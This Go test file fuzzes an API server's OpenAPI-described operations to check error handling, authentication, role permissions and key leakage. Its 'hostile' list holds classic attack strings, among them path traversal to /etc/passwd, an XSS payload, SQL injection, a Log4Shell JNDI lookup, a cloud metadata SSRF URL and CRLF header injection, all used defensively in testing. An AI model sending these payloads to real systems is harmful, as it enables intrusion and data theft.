package serve_test

import (
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/url"
	"sort"
	"strings"
	"testing"

	"assay/app/desk"
)

// described is one operation as the description has it.
type described struct {
	method, path, role string
	params             []param
	body               map[string]any // schema; nil for none
}

type param struct {
	name, in string
	schema   map[string]any
}

// description is the OpenAPI document as it is served.
func description(t *testing.T, p *place) map[string]any {
	t.Helper()
	var doc map[string]any
	if err := json.Unmarshal([]byte(p.want(200, "", desk.Reader, "GET", "/v1/openapi.json", "").body), &doc); err != nil {
		t.Fatal(err)
	}
	return doc
}

func object(v any, names ...string) map[string]any {
	for _, n := range names {
		m, _ := v.(map[string]any)
		v = m[n]
	}
	m, _ := v.(map[string]any)
	return m
}

// operations lists the operations of the description, in order.
func operations(t *testing.T, p *place) []described {
	t.Helper()
	var out []described
	for path, of := range object(description(t, p), "paths") {
		for method, op := range object(of) {
			d := described{method: strings.ToUpper(method), path: path}
			d.role, _ = object(op)["x-role"].(string)
			list, _ := object(op)["parameters"].([]any)
			for _, v := range list {
				q := object(v)
				d.params = append(d.params, param{q["name"].(string), q["in"].(string), object(q, "schema")})
			}
			d.body = object(op, "requestBody", "content", "application/json", "schema")
			out = append(out, d)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].path+out[i].method < out[j].path+out[j].method })
	return out
}

// maker makes values that a schema allows, and spoils them.
type maker struct {
	r    *rand.Rand
	doc  map[string]any
	ids  []string // runs there are
	sha  string
	seen int
}

func pick[T any](r *rand.Rand, of ...T) T { return of[r.IntN(len(of))] }

// hostile are texts that programs have stumbled over.
var hostile = []string{
	"", " ", "\x00", "a\x00b", "../../etc/passwd", "/etc/passwd", "..%2f..%2f", "<img src=x onerror=alert(1)>", "' OR 1=1 --", "${jndi:ldap://192.0.2.1/x}", "\u202Eevil", "\xff\xfe",
	"🦀🦀🦀", "null", "-1", "1e309", "9999999999999999999999", "0x7f", "NaN", strings.Repeat("A", 5000), strings.Repeat("深", 4001), "recorded:/etc/passwd", "http://169.254.169.254/", "\r\nX-Evil: 1",
	"{{.}}", "%s%s%n", "2026-13-45T99:99:99Z", "20260102-030405-zzzzzz", "20260102-030405-0a1b2c", "ollama:x", "openai:x",
}

// schema follows a reference.
func (m *maker) schema(s map[string]any) map[string]any {
	if ref, ok := s["$ref"].(string); ok {
		return object(m.doc, strings.Split(strings.TrimPrefix(ref, "#/"), "/")...)
	}
	return s
}

// value makes a value of a schema.
func (m *maker) value(s map[string]any, name string, depth int) any {
	s = m.schema(s)
	if list, ok := s["enum"].([]any); ok {
		return pick(m.r, list...)
	}
	kind, _ := s["type"].(string)
	if kinds, ok := s["type"].([]any); ok {
		kind, _ = pick(m.r, kinds...).(string)
	}
	switch kind {
	case "string":
		return m.text(s, name)
	case "integer", "number":
		low, high := 0.0, 500.0
		if v, ok := s["minimum"].(float64); ok {
			low = v
		}
		if v, ok := s["maximum"].(float64); ok {
			high = v
		}
		return int64(low) + m.r.Int64N(int64(high-low)+1)
	case "boolean":
		return m.r.IntN(2) == 0
	case "array":
		out := []any{}
		for range m.r.IntN(3) {
			out = append(out, m.value(object(s, "items"), name, depth+1))
		}
		return out
	case "object":
		out := map[string]any{}
		required, _ := s["required"].([]any)
		props := object(s, "properties")
		names := make([]string, 0, len(props))
		for n := range props {
			names = append(names, n)
		}
		sort.Strings(names)
		for _, n := range names {
			must := false
			for _, r := range required {
				must = must || r == n
			}
			if must || depth < 4 && m.r.IntN(3) == 0 {
				out[n] = m.value(object(props, n), n, depth+1)
			}
		}
		return out
	}
	return nil
}

func (m *maker) text(s map[string]any, name string) string {
	switch {
	case name == "id" && s["pattern"] != nil:
		return pick(m.r, append(m.ids, "20200101-000000-aaaaaa")...)
	case name == "sha256":
		return pick(m.r, m.sha, strings.Repeat("0", 64))
	case name == "after" || name == "Last-Event-ID":
		return fmt.Sprint(m.r.IntN(30))
	case name == "model":
		return pick(m.r, "extractive", "auto", "ollama:none", "x")
	case name == "now":
		return pick(m.r, "2026-01-02T03:04:05Z", "2026-01-02", "yesterday")
	case name == "folder":
		return pick(m.r, "/none/at/all", "relative", "/etc/hostname")
	}
	return pick(m.r, "gold", "What is the melting point of gold?", "silver melts at 962 degrees", "黄金的熔点是多少？")
}

// spoil makes a value that the schema hardly allows.
func (m *maker) spoil(v any) any {
	switch w := v.(type) {
	case map[string]any:
		names := make([]string, 0, len(w))
		for n := range w {
			names = append(names, n)
		}
		sort.Strings(names)
		if len(names) == 0 || m.r.IntN(5) == 0 {
			w[pick(m.r, "__proto__", "out", "Question", "", "$schema")] = pick(m.r, hostile...)
			return w
		}
		n := pick(m.r, names...)
		if m.r.IntN(4) == 0 {
			delete(w, n)
			return w
		}
		w[n] = m.spoil(w[n])
		return w
	case []any:
		if len(w) == 0 || m.r.IntN(3) == 0 {
			long := make([]any, m.r.IntN(300))
			for i := range long {
				long[i] = pick(m.r, hostile...)
			}
			return append(w, long...)
		}
		w[0] = m.spoil(w[0])
		return w
	}
	return pick[any](m.r, nil, true, -1, 1e300, []any{}, map[string]any{}, pick(m.r, hostile...), pick(m.r, hostile...), []any{[]any{[]any{}}})
}

// request makes one request of an operation.
func (m *maker) request(op described, base string) (*http.Request, error) {
	m.seen++
	bad := m.r.IntN(3) // 0: as described
	path, query := op.path, url.Values{}
	header := http.Header{}
	for _, q := range op.params {
		text := fmt.Sprint(m.value(q.schema, q.name, 0))
		if bad > 0 && m.r.IntN(4) == 0 {
			text = pick(m.r, hostile...)
		}
		switch q.in {
		case "path":
			path = strings.ReplaceAll(path, "{"+q.name+"}", url.PathEscape(text))
		case "query":
			if m.r.IntN(2) == 0 || bad == 0 {
				query.Set(q.name, text)
			}
		case "header":
			if !strings.ContainsAny(text, "\x00\r\n") && m.r.IntN(2) == 0 {
				header.Set(q.name, text)
			}
		}
	}
	if bad > 0 && m.r.IntN(6) == 0 {
		query.Set(pick(m.r, "token", "x", "after", "limit"), pick(m.r, hostile...))
	}
	body := ""
	if op.body != nil {
		v := m.value(op.body, "", 0)
		if bad > 0 {
			v = m.spoil(v)
		}
		b, err := json.Marshal(v)
		if err != nil {
			return nil, err
		}
		body = string(b)
	}
	if bad == 2 && m.r.IntN(4) == 0 {
		body = pick(m.r, "{", "[]", "null", `"x"`, strings.Repeat("[", 20000), `{"question":`, "\x00", body+body, `{"a":1,"a":2}`, "")
	}
	if query := query.Encode(); query != "" {
		path += "?" + query
	}
	req, err := http.NewRequest(op.method, base+path, strings.NewReader(body))
	if err != nil {
		return nil, err
	}
	req.Header = header
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
		if bad == 2 && m.r.IntN(10) == 0 {
			req.Header.Set("Content-Type", pick(m.r, "text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json; charset=utf-7", ";"))
		}
	}
	if bad == 2 && m.r.IntN(10) == 0 {
		req.Header.Set("Accept", pick(m.r, "text/html", "application/cbor", "*/*;q=0", "\"", "application/xml"))
	}
	return req, nil
}

// TestFuzz sends to every operation what its description allows and what it does not, as each role and as nobody: no answer is a fault
// of the server, none without a token tells anything, none holds a key, and every fault is a problem with a sentence.
func TestFuzz(t *testing.T) {
	rounds := 60
	if testing.Short() {
		rounds = 10
	}
	p := newPlace(t, plenty)
	set := p.desk.Settings()
	set.Offline = true // a run that asks for the web has none
	if err := p.desk.SetSettings(set); err != nil {
		t.Fatal(err)
	}
	id := p.run()
	sources, err := p.desk.Sources(id)
	if err != nil {
		t.Fatal(err)
	}
	m := &maker{r: rand.New(rand.NewPCG(20260102, 8)), doc: description(t, p), ids: []string{id}, sha: sources[0].SHA256}
	ops := operations(t, p)
	statuses := map[int]int{}
	hits := map[string]int{}
	for range rounds {
		for _, op := range ops {
			role := pick(m.r, append([]desk.Role{""}, desk.Roles...)...)
			if op.method == "DELETE" && m.r.IntN(4) > 0 {
				role = desk.Reader // some things should stay
			}
			req, err := m.request(op, p.http.URL)
			if err != nil {
				continue // not a request that can be sent
			}
			if role != "" {
				req.Header.Set("Authorization", "Bearer "+p.tokens[role])
			}
			what := fmt.Sprintf("%s %s as %q", req.Method, req.URL, role)
			got := p.answer(req)
			statuses[got.status]++
			if got.status < 300 {
				hits[op.method+" "+op.path]++
			}
			switch {
			case got.status >= 500:
				t.Errorf("%s: %d %s\n%s", what, got.status, got.body, p.log)
			case role == "" && got.status != 401:
				t.Errorf("%s: %d without a token: %.200s", what, got.status, got.body)
			case got.status >= 400 && !problemOf(got):
				t.Errorf("%s: %d is no problem: %.200s", what, got.status, got.body)
			case !desk.Role(role).May(desk.Role(op.role)) && got.status < 400:
				t.Errorf("%s: %d, and the role may not", what, got.status)
			case strings.Contains(got.body, secretKey):
				t.Errorf("%s: the answer holds a key", what)
			}
			p.stopAll()
		}
	}
	if strings.Contains(p.log.String(), "a fault of the program") {
		t.Errorf("a panic is in the log: %s", p.log)
	}
	for _, op := range ops {
		if hits[op.method+" "+op.path] == 0 {
			t.Logf("%s %s never did anything", op.method, op.path)
		}
	}
	t.Logf("%d requests to %d operations: %v", m.seen, len(ops), statuses)
}

// answer has the handler answer without a network in between, which would refuse some requests itself.
func (p *place) answer(req *http.Request) asked {
	w := httptest.NewRecorder()
	in := httptest.NewRequest(req.Method, req.URL.RequestURI(), req.Body).WithContext(p.t.Context())
	in.Header, in.Host = req.Header, "127.0.0.1"
	p.server.Handler().ServeHTTP(w, in)
	b, _ := io.ReadAll(w.Result().Body)
	return asked{w.Code, w.Result().Header, string(b)}
}

// stopAll ends the runs that go on.
func (p *place) stopAll() {
	runs, err := p.desk.Runs()
	if err != nil {
		p.t.Fatal(err)
	}
	for _, r := range runs {
		if j := p.desk.Job(r.ID); j != nil {
			j.Cancel()
			<-j.Done()
		}
	}
}
